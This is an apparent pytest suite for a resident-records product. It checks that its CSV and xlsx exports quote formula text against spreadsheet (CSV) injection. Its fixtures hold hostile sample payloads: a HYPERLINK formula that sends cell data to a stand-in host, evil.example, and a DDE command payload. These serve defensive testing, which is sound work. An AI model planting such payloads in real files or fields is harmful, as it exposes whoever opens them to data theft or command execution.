"""Every file that leaves is safe to open: no cell built from what a resident typed runs as a
formula (OWASP CSV injection), and numbers stay numbers.

Residents whose names and work units are formulas are exported through every path the
product writes a CSV or xlsx by: the ledger export (CSV and xlsx, the `yibiao ledger
export` command), the data API's rows.csv, the department-template export (streamed list
and in-place card), the burden downloads and the catalogue of admitted forms. No CSV cell
may start with = + - @ tab or CR, no xlsx cell may be a formula, and LibreOffice must read
the text back as text.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
import subprocess
import uuid
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from yibiao.accounts import tokens
from yibiao.gate.tables import workflow
from yibiao.ledger.records import PersonInput, write_people
from yibiao.reports.models import Task
from yibiao.sheets.cells import FORMULA_STARTS, safe_cell, safe_row
from yibiao.values.ids import check_digit

from .conftest import PASSWORD
from .sheetfactory import table, write_xlsx

HYPERLINK = '=HYPERLINK("http://evil.example/?"&D2,"点我")'
DDE = "+cmd|' /C calc'!A0"
# Names short enough for the 20-letter initials column; the long HYPERLINK goes into the
# work unit (and the department's name, the request's basis).
NAMES = ['=HYPERLINK("http://e.x","点我")', DDE, "@SUM(1)", "-2+3", "\t=1"]


def id_number(serial: int) -> str:
    first17 = f"43010419800101{serial:03d}"
    return first17 + check_digit(first17)


# --- the one function -------------------------------------------------------------------

@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"),
    (HYPERLINK, "'" + HYPERLINK),
    (DDE, "'" + DDE),
    ("@SUM(1)", "'@SUM(1)"),
    ("-2+3", "'-2+3"),
    ("-5", "'-5"),  # text that looks like a number is still text: quoted
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("王秀英", "王秀英"),
    ("a=1", "a=1"),
    (" =1", " =1"),  # a leading space is never read as a formula
    ("", ""),
    (None, None),  # an empty cell stays empty
    (0, 0),
    (-5, -5),  # a number written as a number stays a number
    (3.5, 3.5),
    (Decimal("-0.5"), Decimal("-0.5")),
    (dt.date(2026, 11, 30), dt.date(2026, 11, 30)),
    (True, True),
])
def test_safe_cell_quotes_formula_text_and_leaves_numbers(value, written):
    assert safe_cell(value) == written
    assert type(safe_cell(value)) is type(written)


def test_safe_row_applies_to_every_cell():
    assert safe_row(["=1", 2, None, "x"]) == ["'=1", 2, None, "x"]


@pytest.mark.parametrize("writer", ["fill_template", "fill_template_streaming"])
def test_the_template_writers_on_their_own_store_formula_text_as_text(tmp_path, writer):
    """The department-template writers never needed `safe_cell` to be safe: a str is a text
    cell whatever it starts with (the export quotes it as well, for a CSV saved from it)."""
    import yibiao.sheets as sheets

    template = write_xlsx(tmp_path / "t.xlsx", [["居民表"], *table("| 序号 | 姓名 | 年龄 | 工作单位 | 备注 |")])
    layout = sheets.read_workbook(template).sheet("Sheet1")
    row = [None, HYPERLINK, "=1+1", DDE, "-2+3"]
    result = getattr(sheets, writer)(template, tmp_path / "out.xlsx", sheet="Sheet1", layout=layout,
                                     rows=iter([row]) if writer.endswith("streaming") else [row])
    filled = load_workbook(result.path)["Sheet1"]
    assert [(c.value, c.data_type) for c in filled[3]][1:] == [(v, "s") for v in row[1:]]


# --- every export path ------------------------------------------------------------------

@pytest.fixture
def hostile(world, tmp_path):
    """Five residents of 桃花岭 named as formulas, one working at a HYPERLINK, and an admitted
    list request and card request of a department whose name is a formula."""
    write_people(world.worker_a, world.community_a, [
        PersonInput({"person.id_number": id_number(i), "person.name": name,
                     "person.work_unit": HYPERLINK if i == 0 else "=1+1",
                     "person.vaccine_doses": "3"})
        for i, name in enumerate(NAMES)
    ], valid_from=dt.date(2026, 1, 1))
    world.department.name = HYPERLINK
    world.department.save()
    template = write_xlsx(tmp_path / "居民表.xlsx",
                          [["居民表"], *table("| 序号 | 姓名 | 公民身份号码 | 工作单位 | 接种剂次 |")])
    listed = workflow.decide(world.reviewer, workflow.submit(world.officer, template, workflow.NewRequest(
        title="@SUM(1)居民表", department=HYPERLINK, basis=HYPERLINK + "《通知》（岳卫〔2026〕9号）",
        frequency="monthly", scope_code=world.community_a.code,
        justifications={"person.id_number": "核对身份", "person.vaccine_doses": "接种统计"})), "admit")
    card = write_xlsx(tmp_path / "登记表.xlsx", table("""
| 居民基本信息登记表 |      |          |      |
| 姓名               |      | 性别     |      |
| 出生日期           |      | 工作单位 |      |
| 身份证号           |      |          |      |
| 联系电话           |      |          |      |
| 填表人：           |      | 日期：   |      |
"""), merges=["A1:D1", "B4:D4", "B5:D5"])
    carded = workflow.decide(world.reviewer, workflow.submit(world.officer, card, workflow.NewRequest(
        title="居民基本信息登记表", department=HYPERLINK, basis="《通知》（岳卫〔2026〕8号）",
        frequency="once", scope_code=world.community_a.code,
        justifications={"person.id_number": "核对身份"}, masked=["person.phone"])), "admit")
    carded.refresh_from_db()
    assert carded.layout == "card"
    return world, listed, carded


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_safe_csv(text: str) -> list[str]:
    cells = csv_cells(text)
    unsafe = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert not unsafe, unsafe
    return cells


def assert_safe_xlsx(data: bytes | Path) -> list[object]:
    book = load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), (sheet.title, cell.coordinate)
                values.append(cell.value)
    return values


def ledger_export(world, tmp_path: Path, name: str) -> Path:
    from yibiao.cli import main

    out = tmp_path / name
    assert main(["ledger", "export", "--org", world.community_a.code, "-o", str(out),
                 "--user", "worker_a"]) == 0
    return out


@pytest.mark.django_db
def test_the_ledger_export_quotes_formulas_in_csv_and_xlsx(hostile, tmp_path):
    world, _, _ = hostile
    cells = assert_safe_csv(ledger_export(world, tmp_path, "ledger.csv").read_text(encoding="utf-8-sig"))
    assert "'" + HYPERLINK in cells and "'@SUM(1)" in cells and "'-2+3" in cells
    assert "'=1" in cells  # "\t=1": the ledger keeps names stripped, the formula is still quoted

    values = assert_safe_xlsx(ledger_export(world, tmp_path, "ledger.xlsx"))
    assert "'" + HYPERLINK in values and "'" + DDE in values
    assert 3 in values  # 接种剂次 is a number, not the text "3"


@pytest.mark.django_db
def test_libreoffice_reads_the_exported_text_literally(hostile, tmp_path):
    """The proof a spreadsheet program gives: converted by LibreOffice, the cells come back
    as the text typed, not as 1 (=-2+3), 1 (@SUM(1)) or 点我 (the HYPERLINK's label)."""
    world, _, _ = hostile
    book = ledger_export(world, tmp_path, "lo.xlsx")
    soffice = shutil.which("soffice")
    assert soffice, "LibreOffice is a requirement of the suite: make system-deps"
    outdir = tmp_path / "csv"
    subprocess.run([soffice, f"-env:UserInstallation=file:///tmp/lo-{uuid.uuid4().hex}", "--headless",
                    "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true",
                    "--outdir", str(outdir), str(book)], check=True, timeout=180, capture_output=True)
    rows = list(csv.reader((outdir / "lo.csv").open(encoding="utf-8")))
    header = rows[0]
    names = [row[header.index("姓名")] for row in rows[1:]]
    units = [row[header.index("工作单位")] for row in rows[1:]]
    assert sorted(names) == sorted(["'" + n.strip() for n in NAMES])
    assert "'" + HYPERLINK in units and "'=1+1" in units
    assert "点我" not in units and "1" not in names and "2" not in units


@pytest.mark.django_db
def test_the_data_api_csv_quotes_formulas_and_the_json_carries_values_as_stored(client, hostile):
    world, listed, _ = hostile
    key = tokens.issue(world.admin, world.officer, "卫健随访系统")
    url = f"/api/v1/data/requests/{listed.pk}/rows"
    params = {"org": world.community_a.code, "period": "2026-11"}
    auth = {"HTTP_AUTHORIZATION": f"Bearer {key}"}
    response = client.get(url + ".csv", params, **auth)
    assert response.status_code == 200
    cells = assert_safe_csv(response.content.decode("utf-8-sig"))
    assert "'" + HYPERLINK in cells and "'" + DDE in cells
    # JSON is data for programs, not a spreadsheet: the name is delivered exactly as stored.
    body = client.get(url, params, **auth).json()
    assert HYPERLINK in [row[3] for row in body["rows"]]
    assert 3 in [row[4] for row in body["rows"]]


@pytest.mark.django_db
def test_the_department_template_exports_hold_text_never_formulas(client, hostile, tmp_path):
    from yibiao.reports.export import export_report
    from yibiao.reports.periods import parse_period

    world, listed, carded = hostile
    client.login(username="officer", password=PASSWORD)
    response = client.get(f"/reports/requests/{listed.pk}/download/",
                          {"org": world.community_a.code, "period": "2026-11"})
    assert response.status_code == 200
    values = assert_safe_xlsx(b"".join(response.streaming_content))  # the streamed list writer
    assert "'" + HYPERLINK in values and "'@SUM(1)" in values and 3 in values

    cards = export_report(world.officer, carded, world.community_a, parse_period("2026-11"),
                          tmp_path / "cards.xlsx")  # the in-place (openpyxl) writer
    values = assert_safe_xlsx(cards.path)
    assert "'" + DDE in values and "'" + HYPERLINK in values


@pytest.mark.django_db
def test_the_burden_downloads_quote_a_department_named_as_a_formula(client, hostile):
    world, listed, _ = hostile
    period = Task.objects.filter(request=listed).values_list("period", flat=True).first()
    client.login(username="reviewer", password=PASSWORD)
    query = {"org": world.community_a.code, "from": period, "to": period}
    cells = assert_safe_csv(client.get("/burden/download.csv", query).content.decode("utf-8-sig"))
    assert "'" + HYPERLINK in cells
    values = assert_safe_xlsx(client.get("/burden/download.xlsx", query).content)
    assert "'" + HYPERLINK in values


@pytest.mark.django_db
def test_the_catalogue_quotes_titles_and_bases(client, hostile):
    client.login(username="reviewer", password=PASSWORD)
    response = client.get("/gate/catalogue.xlsx")
    assert response.status_code == 200
    values = assert_safe_xlsx(b"".join(response.streaming_content))
    assert "'@SUM(1)居民表" in values and "'" + HYPERLINK in values
